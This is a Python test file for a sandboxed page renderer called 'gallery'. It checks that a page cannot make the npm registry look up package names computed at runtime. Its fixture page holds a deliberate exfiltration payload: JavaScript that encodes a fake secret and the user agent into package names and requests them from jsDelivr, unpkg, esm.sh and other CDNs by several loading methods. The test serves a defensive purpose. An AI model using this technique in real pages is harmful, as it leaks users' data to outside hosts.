"""A page cannot make gallery ask the npm registry for names it computes.

Libraries are resolved before the page runs, from the CDN URLs written in its
files; while it runs, its library requests are answered from the disk cache
alone. A page that builds package names out of its data (here its user agent and
a "secret") and asks for them through every CDN form and every way of loading
is refused, and the registry — a fake one on loopback that records every name it
is asked for — never hears those names.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from test_libs import FakeRegistry

from gallery.aio import run_sync
from gallery.catalogue.prompts import parse_prompt
from gallery.render.libs import LibCache, written_cdn_urls
from gallery.render.sandbox import Renderer

PAGE = """<!doctype html><html lang="en"><head><title>lookups</title>
<script src="https://cdn.jsdelivr.net/npm/static-lib@1.0.0/index.js"></script>
</head><body><h1 id="h">waiting</h1><script>
const secret = btoa('key=hunter2 ' + navigator.userAgent).toLowerCase().replace(/[^a-z0-9]/g, '');
const name = 'leak-' + secret.slice(0, 30);
const urls = [
  `https://cdn.jsdelivr.net/npm/${name}@1.0.0/index.js`,
  `https://unpkg.com/${name}@1.0.0/index.js`,
  `https://esm.sh/${name}@1.0.0`,
  `https://cdn.skypack.dev/${name}`,
  `https://ga.jspm.io/npm:${name}@1.0.0/index.js`,
  `https://cdnjs.cloudflare.com/ajax/libs/${name}/1.0.0/x.min.js`,
];
for (const u of urls) {
  const s = document.createElement('script'); s.src = u; document.head.appendChild(s);
  fetch(u).catch(() => {});
  import(u).catch(() => {});
}
const map = document.createElement('script');
map.type = 'importmap';
map.textContent = JSON.stringify({imports: {leak: `https://esm.sh/${name}-map`}});
document.head.appendChild(map);
import('leak').catch(() => {});
// A runtime request for a package already in the cache is fine: no registry asked.
fetch('https://unpkg.com/static-lib@1.0.0/other.js').then(r => r.text())
  .then(t => { document.getElementById('h').textContent = t; });
document.getElementById('h').textContent = window.staticLib ? 'static ok' : 'no static';
</script></body></html>"""


@pytest.fixture
def registry() -> Iterator[FakeRegistry]:
    reg = FakeRegistry()
    reg.add(
        "static-lib",
        "1.0.0",
        {
            "package.json": '{"name": "static-lib", "version": "1.0.0"}',
            "index.js": "window.staticLib = 1;",
            "other.js": "cached file",
        },
    )
    with reg.serving():
        yield reg


def test_only_names_written_in_the_page_are_looked_up(
    tmp_path: Path, registry: FakeRegistry
) -> None:
    d = tmp_path / "page"
    d.mkdir()
    (d / "index.html").write_text(PAGE)
    prompt = parse_prompt(
        {"id": "p", "title": "p", "prompt": "p", "checks": [{"kind": "offline"}]},
        Path("p.toml"),
    )
    libs = LibCache(cache_dir=tmp_path / "npm", registry=registry.url, timeout=5)

    async def go():
        async with Renderer(libs=libs) as r:
            return await r.render(d, prompt)

    obs = run_sync(go()).observation
    assert obs["status"] == "ok", obs["detail"]
    asked = {p for p in registry.hits if not p.startswith("/tarballs/")}
    assert asked == {"/static-lib"}, asked  # the written name, and no computed one
    assert "static ok" in obs["page"]["text"] or "cached file" in obs["page"]["text"]
    served = {c["package"] for c in obs["requests"]["cdn"]}
    assert served == {"static-lib"}
    refused = [b for b in obs["requests"]["blocked"] if "leak-" in b["url"]]
    assert refused, obs["requests"]["blocked"]
    assert all("not resolved" in b["reason"] for b in refused), refused


def test_written_urls_are_found_in_every_form(tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(
        '<script src="https://cdn.jsdelivr.net/npm/three@0.160.0/build/three.module.js"></script>'
        '<script type="importmap">{"imports": {"p/": "https://unpkg.com/p5@1.9.0/lib/"}}</script>'
        "<link href='//cdnjs.cloudflare.com/ajax/libs/normalize/8.0.1/normalize.min.css'>"
        '<script src="https://cdn.tailwindcss.com"></script>'
    )
    (tmp_path / "app.js").write_text("import x from 'https://esm.sh/canvas-confetti@1.9.2';")
    assert written_cdn_urls(tmp_path) == [
        "https://esm.sh/canvas-confetti@1.9.2",
        "https://cdn.jsdelivr.net/npm/three@0.160.0/build/three.module.js",
        "https://unpkg.com/p5@1.9.0/lib/",
        "https://cdnjs.cloudflare.com/ajax/libs/normalize/8.0.1/normalize.min.css",
        "https://cdn.tailwindcss.com",
    ]
